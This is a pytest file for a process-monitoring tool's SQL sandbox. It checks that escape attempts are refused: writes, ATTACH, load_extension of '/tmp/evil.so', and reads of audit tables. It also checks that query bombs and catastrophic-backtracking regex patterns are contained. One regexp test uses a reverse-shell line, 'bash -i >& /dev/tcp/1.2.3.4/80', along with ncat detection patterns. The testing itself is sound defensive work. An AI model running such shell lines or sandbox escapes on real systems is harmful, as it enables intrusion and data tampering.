"""The one sandbox `daemoneye query` and rules share: what user SQL may read, call and do.

Escapes are tried three ways: validated at rule load (compile only), run by the evaluator on
its shadow-table connection (a rule that skipped validation), and run by `daemoneye query`.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from pathlib import Path

import apsw
import pytest

from daemoneye.engine.evaluator import MAX_CONSECUTIVE_TIMEOUTS, Evaluator
from daemoneye.engine.sandbox import Deadline, compile_columns, open_scratch
from daemoneye.errors import QueryError
from daemoneye.models import ProcessKey, Rule
from daemoneye.store import Store, open_readonly
from daemoneye.store.sandbox import (
    MAX_REGEXP_PATTERN,
    MAX_REGEXP_PROGRAM,
    MAX_REGEXP_SUBJECT,
    BudgetExceeded,
    Regexp,
    UnsafePatternError,
    compile_pattern,
    regexp,
)
from tests.unit.conftest import DeltaFactory, RecordFactory

BOMB = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c"

ESCAPES = [
    pytest.param("INSERT INTO processes (pid) VALUES (1)", "INSERT into 'processes'", id="insert"),
    pytest.param("UPDATE processes SET name = 'x'", "UPDATE of 'processes'", id="update"),
    pytest.param("DELETE FROM process_events", "DELETE from 'process_events'", id="delete"),
    pytest.param(
        "INSERT INTO temp.processes SELECT * FROM main.processes",
        "INSERT into 'processes'",
        id="insert-into-shadow",
    ),
    pytest.param("DELETE FROM temp.processes", "DELETE from 'processes'", id="empty-shadow"),
    pytest.param("ATTACH DATABASE '/tmp/daemoneye-evil.db' AS evil", "ATTACH", id="attach"),
    pytest.param("PRAGMA query_only = 0", "PRAGMA query_only", id="pragma-write"),
    pytest.param("PRAGMA writable_schema = 1", "PRAGMA writable_schema", id="writable-schema"),
    pytest.param(
        "SELECT load_extension('/tmp/evil.so')", "function load_extension()", id="load-extension"
    ),
    pytest.param("SELECT fts3_tokenizer('simple')", "function fts3_tokenizer()", id="fts3"),
    pytest.param("SELECT length(randomblob(100))", "function randomblob()", id="randomblob"),
    pytest.param("SELECT random()", "function random()", id="random"),
    pytest.param("CREATE TEMP TABLE t (x)", "temporary objects", id="temp-table"),
    pytest.param("CREATE TEMP VIEW processes2 AS SELECT 1", "temporary objects", id="temp-view"),
    pytest.param("SELECT sql FROM sqlite_master", "reading 'sqlite_master'", id="sqlite_master"),
    pytest.param("SELECT sql FROM sqlite_schema", "reading 'sqlite_master'", id="sqlite_schema"),
    pytest.param(
        "SELECT sql FROM temp.sqlite_temp_master",
        "reading 'sqlite_temp_master'",
        id="sqlite_temp_master",
    ),
    pytest.param("SELECT value FROM meta", "reading 'meta'", id="meta"),
    pytest.param("SELECT count(*) FROM meta", "reading 'meta'", id="count-meta"),
    pytest.param(
        "WITH c AS (SELECT 1) SELECT count(*) FROM audit_log",
        "reading 'audit_log'",
        id="count-audit-log",
    ),
    pytest.param("SELECT hash FROM audit_log", "reading 'audit_log'", id="audit_log"),
    pytest.param("SELECT payload FROM sink_outbox", "reading 'sink_outbox'", id="sink_outbox"),
    pytest.param("SELECT name FROM pragma_table_list", "PRAGMA table_list", id="pragma-table"),
]


@pytest.fixture
def populated(store: Store, make_record: RecordFactory, make_delta: DeltaFactory) -> Store:
    records = [make_record(pid, 10.0, name=f"p{pid}") for pid in range(100, 110)]
    store.apply(make_delta(11.0, added=records))
    return store


@pytest.fixture
def evaluator(populated: Store) -> Iterator[Evaluator]:
    opened = Evaluator(populated.path, time_budget_s=0.05)
    yield opened
    opened.close()


def fingerprint(path: Path) -> str:
    """The file's bytes and what another connection reads from it (WAL included)."""
    conn = apsw.Connection(str(path), flags=apsw.SQLITE_OPEN_READONLY)
    data = repr(
        (
            conn.execute("SELECT * FROM processes ORDER BY id").fetchall(),
            conn.execute("SELECT * FROM process_events ORDER BY id").fetchall(),
            conn.execute("SELECT sql FROM sqlite_schema ORDER BY name").fetchall(),
        )
    )
    conn.close()
    return hashlib.sha256(path.read_bytes()).hexdigest() + data


def rule(query: str, rule_id: str = "r") -> Rule:
    """A rule built directly, skipping validation: what the evaluator must survive anyway."""
    return Rule(rule_id, rule_id, "", "high", True, (), query, None, None, None, "t.toml", 1)


@pytest.mark.parametrize(("sql", "named"), ESCAPES)
def test_validation_refuses_escapes_by_name(sql: str, named: str) -> None:
    conn = open_scratch()
    try:
        with pytest.raises(QueryError) as refused:
            compile_columns(conn, sql)
    finally:
        conn.close()
    message = str(refused.value)
    # the scratch database has no shadow tables: writing them is refused as a missing table
    assert named in message or "no such table: temp.processes" in message, message


@pytest.mark.parametrize(("sql", "named"), ESCAPES)
def test_a_rule_that_skipped_validation_still_cannot_escape(
    populated: Store, evaluator: Evaluator, sql: str, named: str
) -> None:
    before = fingerprint(populated.path)
    evaluator.set_rules([rule(sql), rule("SELECT pid, start_time FROM processes", "good")])
    result = evaluator.evaluate_changes([ProcessKey(100, 10.0)])
    (failure,) = result.failures
    assert failure.rule_id == "r" and failure.kind == "error"
    # the shadow table was not emptied or filled by the rule; the good rule still ran
    assert [d.pid for d in result.detections] == [100]
    assert fingerprint(populated.path) == before


@pytest.mark.parametrize(("sql", "named"), ESCAPES)
def test_query_command_refuses_the_same_escapes(populated: Store, sql: str, named: str) -> None:
    before = fingerprint(populated.path)
    with open_readonly(populated.path) as reader, pytest.raises(QueryError):
        reader.query(sql)
    assert fingerprint(populated.path) == before


def test_documented_tables_views_and_functions_are_readable(populated: Store) -> None:
    sql = """
        SELECT p.pid, upper(p.name), json_array_length(p.argv), p.argv ->> '$[0]',
               (SELECT count(*) FROM all_processes), (SELECT count(*) FROM live_processes),
               (SELECT count(*) FROM process_events), (SELECT count(*) FROM alerts),
               (SELECT group_concat(value, ' ') FROM json_each(p.argv)),
               p.name REGEXP '^p10[0-9]$', datetime(p.start_time, 'unixepoch')
        FROM processes p WHERE p.pid = 100
    """
    with open_readonly(populated.path) as reader:
        (row,) = reader.query(sql).rows
    assert row == (100, "P100", 2, "sleep", 10, 10, 0, 0, "sleep 60", 1, "1970-01-01 00:00:10")


def test_runaway_query_is_aborted_counted_and_then_suspended(
    evaluator: Evaluator,
) -> None:
    evaluator.set_rules([rule(BOMB, "bomb"), rule("SELECT pid, start_time FROM processes", "ok")])
    kinds = []
    for _ in range(MAX_CONSECUTIVE_TIMEOUTS + 1):
        result = evaluator.evaluate_full()
        kinds.append([f.kind for f in result.failures])
        assert [d.pid for d in result.detections][:1] == [100]  # the other rule kept running
    assert kinds == [["timeout"]] * (MAX_CONSECUTIVE_TIMEOUTS - 1) + [["suspended"], []]
    stats = evaluator.stats()["bomb"]
    assert (stats.timeouts, stats.suspended) == (MAX_CONSECUTIVE_TIMEOUTS, True)
    # a new version of the rule runs again
    evaluator.set_rules([rule(BOMB + " LIMIT 1", "bomb")])
    assert [f.kind for f in evaluator.evaluate_full().failures] == ["timeout"]


def test_runaway_rule_on_the_tick_connection_is_aborted(evaluator: Evaluator) -> None:
    endless = BOMB.replace("count(*) FROM c", "x AS pid, 1.0 AS start_time FROM c WHERE x < 0")
    evaluator.set_rules([rule(endless, "bomb")])
    result = evaluator.evaluate_changes([ProcessKey(100, 10.0)])
    assert [f.kind for f in result.failures] == ["timeout"]
    assert result.timings_ms[0][1] < 5_000  # aborted, not run to completion


def test_huge_results_are_capped(populated: Store) -> None:
    evaluator = Evaluator(populated.path, max_rows=7)
    try:
        many = (
            "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n LIMIT 100000) "
            "SELECT x AS pid, 1.0 AS start_time FROM n"
        )
        evaluator.set_rules([rule(many, "many")])
        result = evaluator.evaluate_full()
    finally:
        evaluator.close()
    assert len(result.detections) == 7
    assert [f.kind for f in result.failures] == ["truncated"]


def test_like_patterns_built_from_process_text_are_capped(evaluator: Evaluator) -> None:
    """A LIKE pattern made of a process's text could be as long as its command line; SQLite
    cannot interrupt LIKE, so a pattern past the cap fails the rule instead of stalling it."""
    evaluator.set_rules(
        [
            rule(
                "SELECT pid, start_time FROM processes "
                "WHERE cmdline LIKE '%' || printf('%.*c', 5000, 'a') || '%'",
                "long-like",
            ),
            rule("SELECT pid, start_time FROM processes WHERE cmdline LIKE '%sshd%'", "short-like"),
        ]
    )
    result = evaluator.evaluate_full()
    assert [(f.rule_id, "pattern" in f.message) for f in result.failures] == [("long-like", True)]


def test_huge_values_are_capped(evaluator: Evaluator) -> None:
    evaluator.set_rules(
        [
            rule("SELECT pid, start_time, zeroblob(1000000000) AS z FROM processes", "zero"),
            rule(
                "SELECT pid, start_time, printf('%.*c', 100000000, 'x') AS s FROM processes", "pf"
            ),
        ]
    )
    result = evaluator.evaluate_full()
    assert [(f.rule_id, "too big" in f.message) for f in result.failures] == [
        ("zero", True),
        ("pf", True),
    ]


# Just under the 64 KiB searched, so that `$` means the value's real end.
CRAFTED = "a" * 65000 + "!"


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("^(a+)+$", 0),
        (".*.*.*.*x", 0),
        ("(a|aa)*b", 0),
        ("(\\w+\\s?)*$", 1),
        ("^(a+)+!$", 1),
        ("a*b*c*d*e*f*!", 1),
    ],
)
def test_regexp_is_linear_on_patterns_that_backtrack_in_re(pattern: str, expected: int) -> None:
    """Shapes that take Python's `re` ages on a crafted value are plain patterns on RE2."""
    assert regexp(pattern, CRAFTED) == expected


@pytest.mark.parametrize(
    ("pattern", "reason"),
    [
        ("(x)\\1", "not valid RE2 syntax"),
        ("foo(?=bar)", "not valid RE2 syntax"),
        ("(?<!a)b", "not valid RE2 syntax"),
        ("x" * (MAX_REGEXP_PATTERN + 1), "characters long"),
        (f"[a-z]{{{MAX_REGEXP_PROGRAM + 1}}}", "too complex"),
    ],
)
def test_regexp_refuses_what_re2_cannot_run_or_costs_too_much(pattern: str, reason: str) -> None:
    with pytest.raises(UnsafePatternError, match=reason):
        compile_pattern(pattern)
    with pytest.raises(UnsafePatternError, match=reason):
        regexp(pattern, "xxx")


def test_regexp_matches_like_sqlite_expects() -> None:
    assert regexp(r"/dev/(tcp|udp)/", "bash -i >& /dev/tcp/1.2.3.4/80") == 1
    assert regexp(r"^nc$", "ncat") == 0
    assert regexp(r"(?i)NCAT", "ncat -e") == 1
    assert regexp(r"\bexec\s", "exec 3<>/dev/tcp") == 1
    assert regexp(r"^é+$", "ééé") == 1
    assert regexp(r"^ab$", b"ab") == 1
    assert regexp(r"x", None) is None
    assert regexp(None, "x") is None


def test_regexp_searches_only_the_first_64_kib() -> None:
    assert regexp("!", "a" * (MAX_REGEXP_SUBJECT - 1) + "!") == 1
    assert regexp("!", "a" * MAX_REGEXP_SUBJECT + "!") == 0


def test_regexp_refuses_to_start_past_the_statements_deadline() -> None:
    passed = Deadline(expires=0.0)
    with pytest.raises(BudgetExceeded):
        Regexp(passed)("a", "a")
    assert Regexp(Deadline())("a", "a") == 1


def test_a_rule_past_its_budget_stops_at_its_next_regexp(
    populated: Store, make_record: RecordFactory, make_delta: DeltaFactory
) -> None:
    """The progress handler never fires inside a short statement; REGEXP checks the clock
    itself, so even a statement of a few VM steps cannot start a search past its budget."""
    evaluator = Evaluator(populated.path, time_budget_s=1e-9)
    try:
        evaluator.set_rules(
            [rule("SELECT pid, start_time FROM processes WHERE cmdline REGEXP 'sleep'", "re")]
        )
        result = evaluator.evaluate_changes([ProcessKey(100, 10.0)])
    finally:
        evaluator.close()
    assert [(f.rule_id, f.kind) for f in result.failures] == [("re", "timeout")]


@pytest.mark.timeout(120)  # a hang guard: `.*.*.*.*x` never ends on a backtracking engine
def test_crafted_64_kib_command_line_does_not_stall_regexp_rules(
    store: Store, make_record: RecordFactory, make_delta: DeltaFactory
) -> None:
    crafted = "a" * 65536 + "!"
    store.apply(make_delta(11.0, added=[make_record(200, 10.0, cmdline=(crafted,))]))
    evaluator = Evaluator(store.path)
    try:
        evaluator.set_rules(
            [
                rule(f"SELECT pid, start_time FROM processes WHERE cmdline REGEXP '{p}'", rid)
                for rid, p in [("nested", "^(a+)+b"), ("stars", ".*.*.*.*x"), ("hit", "^(a|aa)+a")]
            ]
        )
        result = evaluator.evaluate_changes([ProcessKey(200, 10.0)])
    finally:
        evaluator.close()
    assert result.failures == ()
    assert [d.rule_id for d in result.detections] == ["hit"]


def test_unsafe_regexp_in_a_rule_is_refused_at_load() -> None:
    conn = open_scratch()
    try:
        with pytest.raises(QueryError, match="not valid RE2 syntax"):
            compile_columns(
                conn, "SELECT pid, start_time FROM processes WHERE cmdline REGEXP '(a)\\1'"
            )
    finally:
        conn.close()


def test_more_than_one_statement_is_refused_at_load() -> None:
    conn = open_scratch()
    try:
        with pytest.raises(QueryError, match="exactly one statement"):
            compile_columns(conn, "SELECT pid, start_time FROM processes; DELETE FROM processes")
    finally:
        conn.close()
